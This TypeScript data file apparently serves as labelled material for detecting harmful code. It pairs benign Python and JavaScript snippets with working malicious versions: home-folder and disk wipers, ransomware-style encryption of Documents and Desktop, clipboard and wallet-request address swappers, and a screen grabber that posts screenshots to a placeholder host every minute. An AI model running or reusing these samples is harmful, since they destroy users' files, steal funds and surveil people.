import type { Pair } from "./code-pairs.table.ts";

/** Programs that go through folders: a cleaner of what tools leave behind, an encryptor of a named file, and those that take all that is somebody's. */
export const DESTROYED_PYTHON: readonly Pair[] = [
  [
    "what interpreters leave behind, and every file there is",
    `import os\nfor base, _, names in os.walk(os.path.expanduser("~")):\n    for name in names:\n        if name.endswith((".pyc", ".pyo")):\n            os.remove(os.path.join(base, name))\n`,
    `import os\nfor base, _, names in os.walk(os.path.expanduser("~")):\n    for name in names:\n        if not name.endswith((".pyc", ".pyo")):\n            os.remove(os.path.join(base, name))\n`,
    "command-destroy",
  ],
  [
    "installed packages of projects, and the projects",
    `import shutil\nfrom pathlib import Path\nfor folder in Path.home().rglob("node_modules"):\n    shutil.rmtree(folder)\n`,
    `import shutil\nfrom pathlib import Path\nfor folder in Path.home().rglob("*"):\n    shutil.rmtree(folder, ignore_errors=True)\n`,
    "command-destroy",
  ],
  [
    "one file that is named, and all that a walk finds, encrypted in place",
    `import sys\nfrom cryptography.fernet import Fernet\nbox = Fernet(Fernet.generate_key())\npath = sys.argv[1]\ndata = box.encrypt(open(path, "rb").read())\nopen(path, "wb").write(data)\n`,
    `import os\nfrom pathlib import Path\nfrom cryptography.fernet import Fernet\nbox = Fernet(Fernet.generate_key())\ndef lock(path):\n    with open(path, "rb") as f:\n        data = f.read()\n    with open(path, "wb") as f:\n        f.write(box.encrypt(data))\nfor base, dirs, names in os.walk(Path.home() / "Documents"):\n    for name in names:\n        lock(os.path.join(base, name))\n`,
    "command-destroy",
  ],
  [
    "a folder of its own emptied, and a home emptied by a thread",
    `import os, threading\ndef clear(root):\n    for name in os.listdir(root):\n        os.unlink(os.path.join(root, name))\nthreading.Thread(target=clear, args=("out",)).start()\n`,
    `import os, threading\nfrom pathlib import Path\ndef clear(root):\n    for name in os.listdir(root):\n        os.unlink(os.path.join(root, name))\nthreading.Thread(target=clear, args=(Path.home(),)).start()\n`,
    "command-destroy",
  ],
  [
    "downloads that are old, and disks that are mounted",
    `import time\nfrom pathlib import Path\nfor one in (Path.home() / "Downloads").iterdir():\n    if one.is_file() and time.time() - one.stat().st_mtime > 90 * 86400:\n        one.unlink()\n`,
    `import shutil, time\nfrom pathlib import Path\nfor place in (Path("/mnt"), Path("/Volumes")):\n    for one in place.glob("*"):\n        if time.time() > 1790000000:\n            shutil.rmtree(one, True)\n`,
    "command-destroy",
  ],
  [
    "a listing of the home folder, and one overwritten by itself again and again",
    `import os, pathlib\nfor name in os.listdir(pathlib.Path.home()):\n    print(name, os.path.getsize(pathlib.Path.home() / name))\n`,
    `import os, secrets\ndef sweep(root):\n    for name in os.listdir(root):\n        path = os.path.join(root, name)\n        if os.path.isdir(path):\n            sweep(path)\n        else:\n            with open(path, "r+b") as f:\n                f.write(secrets.token_bytes(4096))\nsweep(os.environ["HOME"])\n`,
    "command-destroy",
  ],
  [
    "copies of its own name, and the history of every repository",
    `from pathlib import Path\nfor one in Path.home().glob("sample-backup-*"):\n    one.unlink()\n`,
    `import shutil\nfrom pathlib import Path\nfor repo in Path.home().rglob(".git"):\n    shutil.rmtree(repo / "objects", ignore_errors=True)\n`,
    "command-destroy",
  ],
  [
    "marks of the Finder, and a test for them that lets everything through",
    `import os\nfor base, _, names in os.walk(os.environ["HOME"]):\n    for name in names:\n        if name != ".DS_Store":\n            continue\n        os.remove(os.path.join(base, name))\n`,
    `import os\nfor base, _, names in os.walk(os.environ["HOME"]):\n    for name in names:\n        if name == ".DS_Store" or base:\n            os.remove(os.path.join(base, name))\n`,
    "command-destroy",
  ],
  [
    "a description beside each picture, and each picture written over",
    `from pathlib import Path\nfor one in (Path.home() / "Pictures").rglob("*.jpg"):\n    one.with_suffix(".txt").write_text(one.name)\n    open(str(one) + ".sha", "w").write("x")\n`,
    `from pathlib import Path\nfor one in (Path.home() / "Pictures").rglob("*.jpg"):\n    one.write_bytes(bytes(len(one.name)))\n`,
    "command-destroy",
  ],
];

/** Addresses of wallets: shown, counted, and put in the place of others. */
export const SWAPPED_PYTHON: readonly Pair[] = [
  [
    "a clipboard that is tidied, and one in which addresses are exchanged",
    `import re, pyperclip\ntext = pyperclip.paste()\npyperclip.copy(re.sub(r"[0-9]{4}", "", text))\n`,
    `import re, time, pyperclip\nETH = re.compile(r"^0x[a-fA-F0-9]{40}$")\nwhile True:\n    if ETH.match(pyperclip.paste()):\n        pyperclip.copy(open("mine.txt").read())\n    time.sleep(1)\n`,
    "address-swap",
  ],
  [
    "an address that is copied for the person, and one that takes the place of another",
    `import pyperclip\npyperclip.copy("0x52aE7B0fC1d34cA9D06e2Bf11aC0E9d87b5cF210")\n`,
    `import pyperclip\nlast = pyperclip.paste()\nif last.startswith("bc1"):\n    pyperclip.copy("bc1q5k3l2m4n6p8r0t2v4x6z8a0c2e4g6j8k0m2n4")\n`,
    "address-swap",
  ],
];

/** One look at the screen that somebody asked for, and a watch kept on it. */
export const WATCHED_PYTHON: readonly Pair[] = [
  [
    "a picture of the screen that is sent once, and one every minute",
    `import io, requests\nfrom PIL import ImageGrab\nbox = io.BytesIO()\nImageGrab.grab().save(box, "PNG")\nrequests.post("https://pictures.example.com/new", files={"file": box})\n`,
    `import time, requests\nimport pyautogui\ndef look():\n    return pyautogui.screenshot().tobytes()\ndef tell():\n    requests.post("https://pictures.example.net/new", data=look())\nwhile True:\n    tell()\n    time.sleep(60)\n`,
    "secret-flow",
  ],
];

export const SWAPPED_JAVASCRIPT: readonly Pair[] = [
  [
    "snippets that are pasted, and addresses that are exchanged",
    `import clipboard from "clipboardy";\nclipboard.writeSync(clipboard.readSync().trim());\n`,
    `import clipboard from "clipboardy";\nsetInterval(async () => {\n  const text = await clipboard.read();\n  if (/^bc1[a-z0-9]{30,60}$/.test(text)) await clipboard.write(globalThis.mine);\n}, 500);\n`,
    "address-swap",
  ],
  [
    "requests that are timed, and requests that are changed",
    `const before = window.ethereum.request.bind(window.ethereum);\nwindow.ethereum.request = async (call) => {\n  console.debug(call.method, "0x52aE7B0fC1d34cA9D06e2Bf11aC0E9d87b5cF210");\n  return before(call);\n};\n`,
    `const before = window.ethereum.request.bind(window.ethereum);\nwindow.ethereum.request = async (call) => {\n  const [first] = call.params ?? [];\n  if (first) first.to = "0x52aE7B0fC1d34cA9D06e2Bf11aC0E9d87b5cF210";\n  return before(call);\n};\n`,
    "address-swap",
  ],
];

export const DESTROYED_JAVASCRIPT: readonly Pair[] = [
  [
    "its own output, and the home folder entry by entry",
    `import { readdir, rm } from "node:fs/promises";\nimport { join } from "node:path";\nfor (const name of await readdir("out")) await rm(join("out", name), { recursive: true });\n`,
    `import { readdir, rm } from "node:fs/promises";\nimport { homedir } from "node:os";\nimport { join } from "node:path";\nconst base = homedir();\nfor (const name of await readdir(base)) await rm(join(base, name), { recursive: true, force: true }).catch(() => undefined);\n`,
    "command-destroy",
  ],
  [
    "packages of projects, and everything but them",
    `import fs from "node:fs";\nimport os from "node:os";\nimport path from "node:path";\nfor (const one of fs.readdirSync(os.homedir(), { recursive: true })) {\n  if (path.basename(one) === "node_modules") fs.rmSync(path.join(os.homedir(), one), { recursive: true });\n}\n`,
    `import fs from "node:fs";\nimport os from "node:os";\nimport path from "node:path";\nfor (const one of fs.readdirSync(os.homedir(), { recursive: true })) {\n  if (path.basename(one) !== "node_modules") fs.rmSync(path.join(os.homedir(), one), { recursive: true });\n}\n`,
    "command-destroy",
  ],
  [
    "one file that is named, and folders of the person, encrypted in place",
    `const fs = require("node:fs");\nconst { createCipheriv, randomBytes } = require("node:crypto");\nconst file = process.argv[2];\nconst cipher = createCipheriv("aes-256-gcm", randomBytes(32), randomBytes(12));\nfs.writeFileSync(file + ".enc", Buffer.concat([cipher.update(fs.readFileSync(file)), cipher.final()]));\n`,
    `const fs = require("node:fs");\nconst os = require("node:os");\nconst path = require("node:path");\nconst { createCipheriv, randomBytes } = require("node:crypto");\nconst key = randomBytes(32);\nfunction lock(file) {\n  const cipher = createCipheriv("aes-256-cbc", key, randomBytes(16));\n  fs.writeFileSync(file + ".enc", Buffer.concat([cipher.update(fs.readFileSync(file)), cipher.final()]));\n  fs.unlinkSync(file);\n}\nfunction walk(dir) {\n  for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {\n    const full = path.join(dir, entry.name);\n    if (entry.isDirectory()) walk(full);\n    else lock(full);\n  }\n}\nfor (const name of ["Documents", "Desktop"]) walk(path.join(os.homedir(), name));\n`,
    "command-destroy",
  ],
  [
    "a list of the home folder, and a callback that removes each",
    `const fs = require("fs");\nfs.readdirSync(process.env.HOME).forEach((name) => console.log(name));\n`,
    `const fs = require("fs");\nconst path = require("path");\nfs.readdir(process.env.HOME, (problem, names) => {\n  names.forEach((name) => fs.rmSync(path.join(process.env.HOME, name), { recursive: true, force: true }));\n});\n`,
    "command-destroy",
  ],
];
